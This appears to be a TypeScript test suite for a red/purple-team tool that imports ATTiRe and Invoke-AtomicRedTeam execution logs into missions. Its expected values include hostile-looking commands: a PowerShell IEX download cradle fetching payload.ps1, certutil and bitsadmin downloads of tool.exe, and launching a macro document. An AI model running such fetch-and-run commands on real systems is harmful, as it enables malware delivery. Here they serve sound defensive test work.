import { and, eq } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createTestApp, type TestApp } from '../../../test/harness.js';
import { auditEvents } from '../../db/schema/index.js';
import { automationWorld, fixture, type AutomationWorld } from './test-automation.js';

const attire = () => [{ name: 'attire-run.json', content: fixture('attire-run.json') }];

/** ATTiRe and Invoke-AtomicRedTeam CSV logs into a mission through the API (both databases). */
describe('execution import: ATTiRe', () => {
  let t: TestApp;
  let w: AutomationWorld;
  beforeAll(async () => {
    t = await createTestApp();
    w = await automationWorld(t);
  });
  afterAll(() => t.close());

  it('a dry run reports what would happen and writes nothing', async () => {
    const { report } = await w.run('red', attire(), { dry_run: 'true' });
    expect(report?.dry_run).toBe(true);
    expect(report?.applied).toBe(false);
    expect(report?.rows.map((r) => r.outcome)).toEqual([
      'filled',
      'filled',
      'unmatched',
      'error',
      'filled',
    ]);
    expect((await w.test(w.tests.cradle)).state).toBe('pending');
  });

  it('matches by Atomic guid, else by a unique technique, and fills the red fields', async () => {
    const { job, report } = await w.run('red', attire());
    expect(job.status, JSON.stringify(job.error)).toBe('succeeded');
    const [cradle, transfer, phish, none, encoded] = report!.rows;
    expect(report!.applied).toBe(true);
    expect(report!.files).toEqual([
      { name: 'attire-run.json', format: 'attire', error: null, procedures: 5 },
    ]);
    expect(cradle).toMatchObject({
      outcome: 'filled',
      matched_by: 'guid',
      test_id: w.tests.cradle,
      executed: true,
    });
    expect(transfer).toMatchObject({
      outcome: 'filled',
      matched_by: 'technique',
      test_id: w.tests.transfer,
    });
    expect(phish?.outcome).toBe('unmatched');
    expect(phish?.notes[0]).toContain('T1566.001');
    expect(none?.outcome).toBe('error');
    expect(none?.notes[0]).toContain('no mitre-technique-id');
    expect(encoded).toMatchObject({ outcome: 'filled', test_id: w.tests.encoded });
    expect(encoded?.notes.join(' ')).toContain('stops before it starts');
    expect(report!.totals).toMatchObject({ filled: 3, unmatched: 1, error: 1, conflict: 0 });

    const d = await w.test(w.tests.cradle);
    expect(d.state).toBe('executed');
    // Steps in their `order`, not file order; stdout first, then stderr, labelled.
    expect(d.red_command).toBe(
      "IEX (New-Object Net.WebClient).DownloadString('http://127.0.0.1/payload.ps1')\nWrite-Host done",
    );
    expect(d.red_output).toBe('[STDOUT]\npayload loaded\ndone\n\n[STDERR]\nAccess is denied.');
    expect(d.executed_at).toBe('2026-11-30T09:01:00.000Z');
    expect(d.attack_started_at).toBe('2026-11-30T09:01:00.000Z');
    expect(d.attack_ended_at).toBe('2026-11-30T09:01:09.500Z');
    expect(d.account_used).toBe('CORP\\alice');
    expect(d.target_asset_id).toBe(w.assets.ws01); // WS01.corp.example → WS01 by short name
    expect(d.red_tool_id).toBe(w.assets.art); // Invoke-Atomicredteam → Invoke-AtomicRedTeam
    const enc = await w.test(w.tests.encoded);
    expect(enc.attack_started_at).toBeNull();
    expect(enc.executed_at).toBe('2026-11-30T09:00:00.000Z'); // the log's time-generated

    const rows = await t.ctx.db
      .select()
      .from(auditEvents)
      .where(
        and(
          eq(auditEvents.action, 'test.execution_imported'),
          eq(auditEvents.targetId, w.tests.cradle),
        ),
      );
    expect(rows).toHaveLength(1);
    expect(rows[0]!.after).toMatchObject({
      state: 'executed',
      import: [{ file: 'attire-run.json', procedure: 1 }],
    });
    const verify = await w.ok('admin', 'GET', '/api/audit/verify');
    expect(verify.json<{ ok: boolean }>().ok).toBe(true);
  });

  it('the same log again changes nothing', async () => {
    const before = await w.test(w.tests.cradle);
    const { report } = await w.run('red', attire());
    expect(report!.rows.filter((r) => r.test_id).map((r) => r.outcome)).toEqual([
      'unchanged',
      'unchanged',
      'unchanged',
    ]);
    expect(report!.applied).toBe(false);
    expect((await w.test(w.tests.cradle)).version).toBe(before.version);
  });

  it('never overwrites what a person wrote: a conflict, unless overwrite (audited)', async () => {
    const url = `/api/missions/${w.missionId}/tests/${w.tests.transfer}`;
    await w.ok('red', 'PUT', url, {
      red_command: 'bitsadmin /transfer job http://127.0.0.1/tool.exe',
    });
    const { report } = await w.run('red', attire());
    const row = report!.rows.find((r) => r.test_id === w.tests.transfer)!;
    expect(row.outcome).toBe('conflict');
    expect(row.conflicts).toEqual([
      {
        field: 'red_command',
        current: 'bitsadmin /transfer job http://127.0.0.1/tool.exe',
        incoming: 'certutil -urlcache -split -f http://127.0.0.1/tool.exe tool.exe',
      },
    ]);
    expect((await w.test(w.tests.transfer)).red_command).toContain('bitsadmin');

    // Resolved one by one: this procedure alone, with overwrite.
    const forced = await w.run('red', attire(), { overwrite: 'true', only: 'attire-run.json#2' });
    expect(forced.report!.rows.map((r) => r.index)).toEqual([2]);
    const again = forced.report!.rows.find((r) => r.test_id === w.tests.transfer)!;
    expect(again).toMatchObject({ outcome: 'filled', overwritten: ['red_command'] });
    expect((await w.test(w.tests.transfer)).red_command).toContain('certutil');
    const [audit] = await t.ctx.db
      .select()
      .from(auditEvents)
      .where(
        and(
          eq(auditEvents.action, 'test.execution_imported'),
          eq(auditEvents.targetId, w.tests.transfer),
        ),
      )
      .orderBy(auditEvents.seq);
    expect(audit).toBeDefined();
    const last = (
      await t.ctx.db
        .select()
        .from(auditEvents)
        .where(eq(auditEvents.targetId, w.tests.transfer))
        .orderBy(auditEvents.seq)
    ).at(-1)!;
    expect(last.action).toBe('test.execution_imported');
    expect(last.before).toMatchObject({
      red_command: 'bitsadmin /transfer job http://127.0.0.1/tool.exe',
    });
    expect(last.after).toMatchObject({ overwrite: true });
  });

  it('creates ad hoc tests for unmatched procedures only when asked', async () => {
    const { report } = await w.run('red', attire(), { create_unmatched: 'true' });
    const phish = report!.rows.find((r) => r.technique_id === 'T1566.001')!;
    expect(phish.outcome).toBe('created');
    const d = await w.test(phish.test_id!);
    expect(d.state).toBe('executed');
    expect(d.red_command).toBe('Start-Process .\\invoice.docm');
    const plan = (await w.ok('lead', 'GET', `/api/missions/${w.missionId}/plan`)).json<{
      scenarios: { name: string; tests: { id: string }[] }[];
    }>();
    const imported = plan.scenarios.find((s) => s.name === 'Imported from automation');
    expect(imported?.tests.map((x) => x.id)).toEqual([phish.test_id]);
  });
});

describe('execution import: Invoke-AtomicRedTeam CSV', () => {
  let t: TestApp;
  let w: AutomationWorld;
  beforeAll(async () => {
    t = await createTestApp();
    w = await automationWorld(t);
  });
  afterAll(() => t.close());

  it('fills time, host, account and result; formula cells are kept as text and noted', async () => {
    const { report } = await w.run('red', [
      { name: 'art-log.csv', content: fixture('art-log.csv') },
    ]);
    expect(report!.files[0]).toMatchObject({ format: 'art_csv', procedures: 3 });
    const [cradle, transfer, bad] = report!.rows;
    expect(cradle).toMatchObject({ outcome: 'filled', matched_by: 'guid' });
    expect(cradle!.notes.join(' ')).toContain('Target WS02 / 10.0.0.16 is not a target asset');
    expect(transfer).toMatchObject({ outcome: 'filled', matched_by: 'technique' });
    expect(bad!.outcome).toBe('error');
    expect(bad!.notes.join(' ')).toContain('not a technique id');
    expect(bad!.notes.join(' ')).toContain('spreadsheet formulas');
    const d = await w.test(w.tests.cradle);
    expect(d).toMatchObject({
      state: 'executed',
      executed_at: '2026-11-30T10:00:00.000Z',
      account_used: 'CORP\\bob',
      execution_result: 'succeeded',
      target_asset_id: null,
      red_tool_id: w.assets.art,
    });
    const tr = await w.test(w.tests.transfer);
    expect(tr.executed_at).toBe('2026-11-30T10:05:00.000Z'); // M/D/YYYY h:mm:ss AM, UTC
    expect(tr.execution_result).toBe('failed');
  });
});
